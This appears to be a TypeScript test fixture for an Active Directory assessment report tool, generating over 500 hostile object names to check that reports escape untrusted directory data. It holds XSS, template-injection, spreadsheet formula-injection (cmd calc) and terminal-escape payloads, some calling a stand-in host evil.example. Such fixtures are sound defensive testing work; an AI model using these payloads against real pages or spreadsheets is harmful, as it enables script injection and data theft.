import type { AssessmentDocument, FindingDocument } from './document.ts'

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '</style><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '</textarea></script><script src=//evil.example/x.js></script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/"><button>send</button></form>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<!--',
  ']]><!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '${alert(1)}',
  '`;alert(1)//',
  "';alert(1)//",
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '=HYPERLINK("http://evil.example/","click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\u0000=1+1',
  '＝1+1',
  'a;=1+1',
  '|pipe|in|a|table|',
  '[click](javascript:alert(1))',
  '![image](http://evil.example/x.png)',
  '`code` **bold** # head',
  'www.evil.example $x^2$ <http://evil.example>',
  'two\r\nlines: yes',
  'ESC \u001b[31mred\u001b[0m',
  'CSI \u009b31mred',
  'BEL \u0007 and backspace \b',
  'right \u202eotfel',
  'marks \u061c \u2067 \u200f end',
  'zero\u200bwidth\ufeff',
  'lone \ud800 surrogate',
  '\u2028line separator',
  `tower ${'\u0301'.repeat(60)}`,
  'Ünïcödé 名前 🔥',
  'a'.repeat(256),
  'words '.repeat(60),
]

const wrappings: readonly ((payload: string, index: number) => string)[] = [
  (payload) => payload,
  (payload, index) => `${payload} ${index}`,
  (payload, index) => `svc-${index} ${payload}`,
  (payload, index) => `"${payload}" ${index}`,
  (payload, index) => `'${payload}' ${index}`,
  (payload, index) => `<b>${payload}</b> ${index}`,
  (payload, index) => `\\${payload}\\ ${index}`,
  (payload, index) => `${payload}${payload} ${index}`,
  (payload, index) => `${index}>${payload}`,
  (payload, index) => `x\n${payload} ${index}`,
]

/** Names as an intruder would choose them for whoever looks at a report: more than 500, each different. */
export const hostileNames: readonly string[] = [
  ...new Set(wrappings.flatMap((wrap) => payloads.map((payload, index) => wrap(payload, index)))),
]

/** A document with a hostile name in every place that a directory can put one. */
export function hostileDocument(): AssessmentDocument {
  const document = documentWith([])
  const some = (from: number, number = 3) => hostileNames.slice(from, from + number)
  const [domain = '', source = '', reader = '', because = ''] = hostileNames
  const { coverage, inventory } = document
  return {
    ...document,
    forest: {
      rootDomain: domain,
      domains: hostileNames.map((name) => ({ dn: `DC=${name}`, sid: name, name })),
    },
    source,
    collectedBy: reader,
    coverage: coverage.map((each, index) => ({
      ...each,
      because: some(index * 5, 5),
      affects: [because],
    })),
    // A report lists 200 objects of a finding.
    findings: [0, 1, 2].map((part) => ({
      ...findingWith(some(part * 200, 200)),
      id: `hostile-${part}`,
      objects: findingWith(some(part * 200, 200)).objects.map((object, index) => ({
        ...object,
        evidence: {
          text: object.name,
          list: some(index),
          record: [{ name: object.name, rights: some(index) }],
          [object.name]: 1,
        },
      })),
      gaps: some(10, 12),
    })),
    notAssessed: hostileNames
      .slice(0, 60)
      .map((name, index) => ({ id: `not-${index}`, because: name })),
    inventory: {
      ...inventory,
      counts: { ...inventory.counts, [domain]: 1 },
      controllers: hostileNames.map((name) => ({
        name,
        dn: name,
        domain: name,
        operatingSystem: name,
        isReadOnly: true,
      })),
      domains: hostileNames.map((name) => ({ name, functionalLevel: name })),
      trusts: hostileNames.map((name) => ({
        domain: name,
        partner: name,
        direction: name,
        type: name,
        attributes: [name],
      })),
      passwordPolicies: hostileNames.map((name) => ({ name, appliesTo: [name] })),
      privilegedGroups: hostileNames.map((name) => ({
        name,
        domain: name,
        count: 1,
        members: [name],
      })),
      managedAccounts: hostileNames.map((name) => ({ name, dn: name, readers: [name] })),
      authorities: hostileNames.map((name) => ({ name, host: name, templates: [name] })),
    },
  }
}

/** A document whose findings have many objects each, those that a report lists with much to say. */
export function worstCase(findings: number, objects: number): AssessmentDocument {
  const finding = findingWith(Array.from({ length: objects }, (_, index) => `名前 ${index}`))
  const long = finding.objects.map((object, index) =>
    index >= 250
      ? object
      : {
          ...object,
          dn: `CN=${object.name},${'OU=Süd-West & Übersee,'.repeat(8)}DC=corp,DC=example`,
          evidence: { note: '名前<'.repeat(200), member: [object.name, object.dn, object.dn] },
        },
  )
  return {
    ...documentWith([]),
    findings: Array.from({ length: findings }, (_, index) => ({
      ...finding,
      id: `worst-${index}`,
      objects: long,
    })),
  }
}

/** A finding whose objects have the given names. */
function findingWith(names: readonly string[]): FindingDocument {
  return {
    id: 'krb-asrep-user',
    title: 'Account without Kerberos pre-authentication',
    category: 'kerberos',
    severity: 'high',
    why: 'Anyone can ask for a piece encrypted with its key and guess the password offline.',
    fix: 'Require pre-authentication.',
    objects: names.map((name, index) => ({
      dn: `CN=${name},CN=Users,DC=corp,DC=example`,
      sid: `S-1-5-21-1-2-3-${1104 + index}`,
      name,
      says: `${name} can be asked for a ticket without a password`,
      severity: 'high',
      evidence: { userAccountControl: 4_194_816, description: name },
    })),
    attack: ['T1558.004'],
    refs: { spec: ['MS-ADTS 2.2.16'], anssi: ['vuln2_kerberos_properties_preauth'] },
  }
}

/** A small document with one finding whose objects have the given names. */
export function documentWith(
  names: readonly string[],
  finding: Partial<FindingDocument> = {},
): AssessmentDocument {
  return {
    format: 'glacis.assessment/1',
    forest: {
      rootDomain: 'corp.example',
      domains: [{ dn: 'DC=corp,DC=example', sid: 'S-1-5-21-1-2-3', name: 'corp.example' }],
    },
    takenAt: '2026-01-01T00:00:00.000Z',
    now: '2026-01-02T00:00:00.000Z',
    source: 'ldaps://dc1.corp.example',
    collectedBy: 'CORP\\reader',
    coverage: [
      {
        source: 'ldap-domain',
        state: 'partial',
        objects: 4,
        because: ['OU=Secret could not be listed.'],
        affects: ['krb-asrep-user'],
      },
      { source: 'sysvol', state: 'absent', because: ['SYSVOL was not read.'] },
    ],
    findings: [{ ...findingWith(names), ...finding }],
    passed: ['krb-des-enabled'],
    notAssessed: [{ id: 'gpo-x', because: 'SYSVOL was not read.' }],
    rules: {
      'krb-des-enabled': { title: 'DES enabled', severity: 'high', category: 'kerberos' },
      'gpo-x': { title: 'Policy', severity: 'high', category: 'gpo' },
    },
    inventory: {
      counts: { objects: 4, users: 2, 'enabled users': 1 },
      controllers: [],
      domains: [{ name: 'corp.example', functionalLevel: 'Windows Server 2016' }],
      trusts: [],
      passwordPolicies: [],
      privilegedGroups: [
        { name: 'Domain Admins', domain: 'corp.example', count: 1, members: ['alice'] },
      ],
      managedAccounts: [],
      authorities: [],
    },
  }
}
